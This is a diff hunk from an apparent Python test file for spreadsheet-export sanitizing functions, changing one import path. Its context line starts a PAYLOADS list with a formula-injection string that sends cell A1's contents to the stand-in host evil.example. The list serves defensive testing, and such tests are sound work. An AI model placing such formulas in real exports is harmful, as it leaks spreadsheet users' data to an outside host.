@@ -11,7 +11,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from calib.exports import neutralize, neutralize_frame, write_csv, write_table, write_xlsx
+from calib.files import neutralize, neutralize_frame, write_csv, write_table, write_xlsx
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
